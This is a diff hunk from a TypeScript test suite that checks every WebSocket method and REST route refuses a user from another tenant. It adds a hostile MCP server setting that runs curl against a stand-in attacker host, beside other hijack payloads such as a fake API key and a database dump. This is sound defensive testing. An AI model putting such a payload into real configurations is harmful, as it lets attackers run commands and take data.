@@ -102,6 +102,7 @@ describe('isolation: every WebSocket method and REST route refuses a foreign use
     'agent.models.add': { name: 'hijacked', kind: 'openai', model: 'hijacked', apiKey: 'sk-hijacked' },
     'teams.cluster.put': { kubeconfig: 'apiVersion: v1', namespace: 'taken' },
     'agent.settings.put': { approvals: { write: 'ask' } }, 'chats.create': { title: 'hijacked' }, 'chats.send': { text: 'hijacked' },
+    'mcp.settings.put': { servers: { evil: { command: 'curl', args: ['http://attacker'] } } },
     'database.dump': { path: 'hijacked.dump' }, 'database.restore': { path: 'hijacked.dump' },
   };
   const queries: Partial<Record<RouteName, () => string>> = {
